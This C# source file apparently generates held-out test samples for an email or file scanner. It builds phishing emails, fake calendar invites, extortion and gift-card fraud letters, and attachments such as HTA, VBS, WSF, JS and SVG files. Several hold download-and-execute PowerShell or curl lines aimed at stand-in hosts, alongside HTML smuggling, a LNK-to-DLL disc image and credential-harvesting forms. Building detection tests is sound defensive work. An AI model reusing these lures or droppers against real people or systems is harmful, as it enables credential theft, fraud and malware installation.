using System.Text;
using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Answers into stolen conversations.</summary>
public sealed class LetterInAStolenThread : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("RE_ Site survey dates.eml", Letter.Build("""
From: "Tom Becker" <t.becker@surveyors.example> <sales77@mail.island-hotel.example>
To: "Elena Ruiz" <e.ruiz@fabrikam.example>
Subject: RE: Site survey dates
Date: Wed, 14 Oct 2026 13:41:02 -0300
In-Reply-To: <11287@fabrikam.example>
Message-ID: <00b1@mail.island-hotel.example>
""", """
Good afternoon,

I have sent the necessary documents as you asked, look at them at the link below:

https://island-hotel.example/tue/suscipitnesciunt?883127
File password: U523

Regards,
Tom Becker

> On 2 March 2024 Elena Ruiz wrote:
> Hello Tom, would the 12th or the 14th suit for the site survey? We need the
> drawings of the west wing before that. Best, Elena
""", false));
        yield return ("AW_ Angebot 4471.eml", Letter.Build("""
From: "Kanzlei Roth" <contacto@talleres-norte.example>
To: info@wingtip.example
Subject: AW: Angebot 4471
Date: Tue, 20 Oct 2026 07:58:44 +0200
Message-ID: <9a01@talleres-norte.example>
""", "Guten Tag,\n\nanbei die unterschriebenen Unterlagen. Passwort: 887\n\nMfG\nKanzlei Roth\n\n-----Ursprüngliche Nachricht-----\nVon: Wingtip <info@wingtip.example>\nGesendet: 11. Mai 2025\nBetreff: Angebot 4471\n\nSehr geehrter Herr Roth, wir bitten um Rücksendung des Angebots.", false,
            ("Angebot_4471.html", "text/html", Utf8(Fill("<html><body><h3>Adobe</h3><p>Dokumentenpasswort: <b>887</b></p><script>var c='@@1';var l=document.createElement('a');l.href='data:application/zip;base64,'+c;l.download='Angebot_4471.zip';l.click();</script></body></html>", Convert.ToBase64String(InertFiles.Zip(("Angebot_4471.img", DiscImage.Build("X", ("Unterlagen.lnk", false, new LinkBuilder().To(@"C:\Windows\System32\rundll32.exe").With("roth.dat,DrawThemeIcon").Build()), ("roth.dat", true, new PeBuilder().Exporting("roth.dll", "DrawThemeIcon").Build())))))))))) ;
        yield return ("Fwd_ Transfer confirmation.eml", Letter.Build("""
From: "Priya N." <priya@logi-partner.example>
To: desk@northwind.example
Subject: Fwd: Transfer confirmation
Date: Thu, 5 Nov 2026 11:20:00 +0530
Message-ID: <f1@logi-partner.example>
""", "<div>Hi team,<br>pls see attached copy as discussed on call.<br><br>---------- Forwarded message ---------<br>From: Accounts &lt;acc@northwind.example&gt;<br>Subject: Transfer confirmation<br><br>Noted, please send the swift copy.</div>", true,
            ("swift copy.pdf.js", "application/x-javascript", Dos(Fill("""
var ghj = "@@1";
var okl = ghj.split("#!#").join("");
var sh = new ActiveXObject("WScript" + "." + "Shell");
sh.Run(okl, 0, false);
""", string.Join("#!#", "powershell -ep bypass -c \"irm https://swift.copy-doc.example/r | iex\"".Chunk(5).Select(part => new string(part))))))));
        var bytes = Encoding.UTF8.GetString(Letter.Build("""
From: "Revisions" <noreply@project-share.example>
To: m.lopez@fabrikam.example
Subject: Re: drawings revision C
Date: Mon, 2 Nov 2026 17:00:00 +0000
Message-ID: <m1@project-share.example>
""", "Please review the attached message and confirm.", false, ("drawings.zip", "application/zip", InertFiles.Zip(("drawings revision C.url", Dos("[InternetShortcut]\nURL=file://dav.project-share.example@80/share/drawings.pdf.lnk\nIconIndex=13\nIconFile=C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\n"))))));
        yield return ("Re_ drawings.eml", Letter.Build("""
From: "M. Lopez" <m.lopez@fabrikam.example>
To: all-engineering@fabrikam.example
Subject: Fwd: Re: drawings revision C
Date: Mon, 2 Nov 2026 17:31:00 +0000
Message-ID: <m2@fabrikam.example>
""", "fyi", false, ("Re drawings revision C.eml", "message/rfc822", Utf8(bytes))));
    }
}

/// <summary>Calendar invitations that are the bait.</summary>
public sealed class InvitationThatBaits : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("invite.ics", Dos("""
BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20261201T090000Z
DTEND:20261201T093000Z
DTSTAMP:20261130T060000Z
ORGANIZER;CN=Microsoft 365 Admin:mailto:admin-notice@cal-invites.example
UID:0a1b2c@google.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:r.silva@contoso.example
SUMMARY:Action required: mailbox password expires today
DESCRIPTION:Your Office 365 password expires in 24 hours.\n\nKeep your current password: https://storage.cal-invites.example/owa/index.html#r.silva@contoso.example\n\nFailure to act will result in suspension of your account.
LOCATION:https://storage.cal-invites.example/owa/index.html#r.silva@contoso.example
BEGIN:VALARM
ACTION:DISPLAY
TRIGGER:-PT5M
DESCRIPTION:Keep password now
END:VALARM
END:VEVENT
END:VCALENDAR
"""));
        yield return ("DocuSign - Please review.ics", Dos("""
BEGIN:VCALENDAR
VERSION:2.0
PRODID:Microsoft Exchange Server 2010
METHOD:PUBLISH
BEGIN:VEVENT
UID:040000008200E00074C5B7101A82E008
DTSTAMP:20261118T101010Z
DTSTART;TZID=UTC:20261118T120000
DTEND;TZID=UTC:20261118T123000
SUMMARY:Document ready: Annual salary review - signature needed
X-ALT-DESC;FMTTYPE=text/html:<html><body><table bgcolor="#ffc820"><tr><td><a href="https://docusign-view.hr-bonus.example/?e=am9obkBmYWJyaWthbS5leGFtcGxl">REVIEW DOCUMENT</a></td></tr></table><p>Scan the code with your phone or click to sign in with your corporate account and password.</p></body></html>
ATTACH;FMTTYPE=text/html:https://docusign-view.hr-bonus.example/Salary_review.html
END:VEVENT
END:VCALENDAR
"""));
        yield return ("reunion.eml", Letter.Build("""
From: "Mesa de ayuda" <mesa@soporte-calendario.example>
To: finanzas@tailspin.example
Subject: Invitación: Auditoría de nómina @ hoy 16:00
Date: Tue, 10 Nov 2026 09:12:00 -0500
Message-ID: <cal@soporte-calendario.example>
""", "<p>Ha sido invitado a una reunión obligatoria. Confirme su asistencia con su correo y contraseña corporativa:</p><p><a href='https://calendario.nomina-acceso.example/confirmar.php?c=ZmluYW56YXM'>SÍ</a> | <a href='https://calendario.nomina-acceso.example/confirmar.php?n=1'>NO</a></p>", true,
            ("invite.ics", "text/calendar; method=REQUEST", Dos("BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\nDTSTAMP:20261110T141200Z\nDTSTART:20261110T210000Z\nSUMMARY:Auditoría de nómina\nURL:https://calendario.nomina-acceso.example/confirmar.php\nDESCRIPTION:Inicie sesión con su contraseña: https://calendario.nomina-acceso.example/confirmar.php\nEND:VEVENT\nEND:VCALENDAR\n"))));
        yield return ("PayPal_order.ics", Dos(Fill("""
BEGIN:VCALENDAR
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
UID:pp-993@cal
DTSTAMP:20261121T010101Z
DTSTART:20261121T013000Z
ORGANIZER;CN="PayPal Billing":mailto:bill9912@cal-sender.example
SUMMARY:Payment of $689.99 to COINBASE CRYPTO was successful
DESCRIPTION:Thank you! USD 689.99 will be charged from your PayPal account. If this was not you call +1 (808) 555-0155 within 12 hours to cancel the payment and get a refund. Invoice id @@1.
ATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=application/hta;X-FILENAME=invoice.hta:@@2
END:VEVENT
END:VCALENDAR
""", "PP-4410-227", Base64("<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr https://pp.cal-bill.example/i|iex\":close</script>"))));
    }
}

/// <summary>Notices of firms that everybody knows, sent by others.</summary>
public sealed class NoticeUnderAFalseName : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Completed_ Complete with DocuSign.eml", Letter.Build("""
Return-Path: <www-data@vps4412.cheap-host.example>
Received: from vps4412.cheap-host.example (198.51.100.23) by mx.fabrikam.example; Mon, 16 Nov 2026 04:40:11 +0000
Authentication-Results: mx.fabrikam.example; spf=softfail; dkim=none; dmarc=fail header.from=docusign.net
From: "DocuSign NA4 System" <dse_na4@docusign.net>
To: j.keller@fabrikam.example
Subject: Completed: Complete with DocuSign: Wire_Instructions.pdf
Date: Mon, 16 Nov 2026 04:40:02 +0000
Message-ID: <1@vps4412.cheap-host.example>
""", "<table width=640 bgcolor='#1e4ca1' align=center><tr><td align=center style='color:#fff'>Your document has been completed<br><a style='background:#ffc423;color:#000;padding:12px' href='https://click.adnet.example/aclk?sa=L&adurl=https%3A%2F%2Fdocu-view.sign-portal.example%2F%3Fai%3Daisle'>VIEW COMPLETED DOCUMENT</a></td></tr></table><p>Do Not Share This Email. This email contains a secure link to DocuSign.</p>", true));
        yield return ("ヤマト運輸 お荷物のお届け.eml", Letter.Build("""
From: =?utf-8?B?44Ok44Oe44OI6YGL6Ly4?= <info@kuroneko-saihaitatsu.example>
To: tanaka@northwind.example
Subject: =?utf-8?B?44GK6I2354mp44Gu44GK5bGK44GR44Gr44Gk44GE44Gm?=
Date: Fri, 13 Nov 2026 22:15:00 +0900
Message-ID: <ym@kuroneko-saihaitatsu.example>
Reply-To: noreply@qq-box.example
""", "<p>お客様のお荷物は住所不明のため配達できませんでした。48時間以内に住所と再配達手数料 (¥100) のお支払いをご確認ください。確認がない場合、荷物は返送されます。</p><p><a href='http://192.0.2.77/yamato/login'>http://www.kuronekoyamato.co.jp/saihaitatsu</a></p>", true));
        yield return ("Mandat faktura ZUS.eml", Letter.Build("""
From: "PUE ZUS" <powiadomienia@zus-pue.platnik-info.example>
To: biuro@tailspin.example
Subject: Zaległość w opłatach składek - wezwanie do zapłaty
Date: Wed, 18 Nov 2026 07:00:00 +0100
Message-ID: <z1@platnik-info.example>
""", "Szanowni Państwo,\n\nw załączeniu przesyłamy wezwanie do zapłaty. Brak zapłaty w ciągu 3 dni skutkuje zajęciem rachunku.\nHasło do załącznika: zus2026\n", false,
            ("Wezwanie_zus_2026.rar", "application/vnd.rar", RarBuilder.Rar5("Wezwanie_zus_2026.vbs", Dos("Dim k\nk = \"pow\" & \"ersh\" & \"ell -nop -w hidden -c \"\"iwr https://zus.platnik-info.example/a.txt -useb|iex\"\"\"\nCreateObject(\"W\" & \"Script.Shell\").Run k, 0, False\n")))));
        yield return ("Voicemail from +1 415.eml", Letter.Build("""
From: contoso.example Voice <noreply@contoso.example>
To: b.young@contoso.example
Subject: 🔊 (1) VM Transcript - Ref#8f3a2c 11/24/2026
Date: Tue, 24 Nov 2026 15:02:00 +0000
X-Originating-IP: [203.0.113.201]
Authentication-Results: spf=none (sender IP is 203.0.113.201) smtp.mailfrom=contoso.example; dkim=none; dmarc=fail action=none header.from=contoso.example;compauth=none reason=451
Message-ID: <vm@localhost.localdomain>
""", "<p style='font-size:1px;color:#fff'>lorem offer meeting notes quarterly</p><table><tr><td>Caller: (415) 555-0172</td></tr><tr><td>Duration: 00:01:07</td></tr></table><a href='https://t.co-redirect.example/Qx?u=https%3a%2f%2fvm.audio-play.example%2f%23Yi55b3VuZ0Bjb250b3NvLmV4YW1wbGU'>▶ Play VM</a><p>Scan with your phone if you cannot open the link. Message will be deleted in 24 hours.</p>", true,
            ("PlayVM_b.young.svg", "image/svg+xml", Utf8(Fill("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href=atob('@@1')+'#b.young@contoso.example'</script></svg>", Base64("https://vm.audio-play.example/"))))));
    }
}

/// <summary>Letters that threaten or that order money or cards, without a link.</summary>
public sealed class LetterThatExtorts : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("I RECORDED YOU.eml", Letter.Build("""
From: <j.smith@northwind.example>
To: <j.smith@northwind.example>
Subject: You have an outstanding payment.
Date: Sun, 8 Nov 2026 02:02:02 +0000
Message-ID: <x@dyn-198-51-100-9.isp.example>
""", """
Hi there!

I regret to inform you about some sad news for you. Approximately a month or two ago I have succeeded to gain total access to
all your devices utilized for browsing internet. My malware gave me access to your microphone, camera, keyboard and contacts.
I recorded a video of you while you were watching adult content. If you don't want me to send it to all of your contacts,
transfer the amount of 1490 USD (in bitcoin equivalent) to my wallet:

bc1qexample0example0example0example0example00

Once I receive the payment I will delete all the videos. You have 48 hours. Do not try to contact the police.
""", false));
        yield return ("Are you available.eml", Letter.Build("""
From: "Father Michael Doyle" <pastor.office.desk22@gmail-box.example>
To: secretary@st-brigid.example
Subject: Hello
Date: Thu, 19 Nov 2026 09:44:00 +0000
Message-ID: <g@gmail-box.example>
""", """
Good morning, are you available? I am in a prayer meeting right now and can't take calls, so just reply by email.
I need you to get some Apple gift cards for a patient in hospital, 5 pieces of $200 each. I will reimburse you later today.
Scratch the back to reveal the code, take a clear picture of them and email it to me here. Can you do this now? Please keep it a surprise.

Blessings,
Sent from my iPad
""", false));
        yield return ("Changement de RIB.eml", Letter.Build("""
From: "Camille Durand" <camille.durand@outlook-perso.example>
To: paie@fabrikam.example
Reply-To: c.durand.fabrikam@mail-direct.example
Subject: Modification de mes coordonnées bancaires
Date: Mon, 23 Nov 2026 08:31:00 +0100
Message-ID: <rib@outlook-perso.example>
""", """
Bonjour,

J'ai récemment changé de banque et je souhaite que mon prochain salaire soit versé sur mon nouveau compte.
Pourriez-vous effectuer la modification avant la paie de ce mois ? C'est urgent, mon ancien compte est déjà clôturé.
Je vous envoie mon nouveau RIB dès votre réponse. Merci de ne pas m'appeler, mon téléphone est en réparation.

Cordialement
Camille Durand
""", false));
        yield return ("DDoS warning.eml", Letter.Build("""
From: "Fancy Lazarus" <fancylaz@onion-mail.example>
To: noc@wingtip.example
Subject: DDoS attack on your network
Date: Sat, 28 Nov 2026 23:59:00 +0000
Message-ID: <d@onion-mail.example>
""", """
PLEASE FORWARD THIS EMAIL TO SOMEONE IN YOUR COMPANY WHO IS ALLOWED TO MAKE IMPORTANT DECISIONS!

We are the Fancy Lazarus and we have chosen wingtip.example as target for our next DDoS attack. All your subnets will be
subject to an attack at Tue, 8 Dec 2026. We will start a small attack right now to prove that this is not a hoax.
You can prevent it by paying 2 Bitcoin (BTC) to the address: 1ExampleExampleExampleExampleExamp
If you do not pay, the attack will start and the fee will increase by 1 BTC for each day after the deadline.
Bitcoin is anonymous, nobody will ever know you cooperated. We will know it's you who paid.
""", false));
    }
}

/// <summary>Messages in messages, of several programs.</summary>
public sealed class MessageInAMessage : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var page = Utf8("<html><body><form action=https://owa.msg-auth.example/l.php method=post><h3>Session expired. Sign in to Outlook to read the message</h3><input name=user value='k.wills@fabrikam.example'><input type=password name=pass><input type=submit></form></body></html>");
        yield return ("Secure message.msg", new MsgBuilder().Text(0x37, "Secure message").Text(0x0C1A, "Encrypted Mail Portal").Text(0x1000, "Open the attached message.htm to decrypt this mail.").Attachment("message.htm", page).Build());
        yield return ("Undeliverable.msg", new MsgBuilder().Text(0x37, "Undeliverable: contract").Text(0x1000, "Your message could not be delivered. The original is attached.").AttachedMessage("contract", inner => inner.Text(0x37, "contract").Attachment("contract.docx.wsf", Dos("<job id=\"a\"><script language=\"JScript\">new ActiveXObject('WScript.Shell').Run('cmd /c curl https://ndr.msg-auth.example/c -o %temp%\\\\c.msi & msiexec /qn /i %temp%\\\\c.msi',0);</script></job>"))).Build());
        yield return ("winmail.dat", TnefBuilder.WithAttachment("Statement.hta", Dos("<html><hta:application windowstate=minimize><script language=\"vbscript\">Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\"): o.Create \"powershell -c iex(irm https://tnef.msg-auth.example/s)\", Null, Null, p : self.close</script></html>")));
        yield return ("meeting reminder.msg", new MsgBuilder().Text(0x1A, "IPM.Task").Text(0x37, "Reminder").Text(0x1000, "Quarterly close").ReminderFile(@"\\198.51.100.44\share\chime.wav").Build());
    }
}
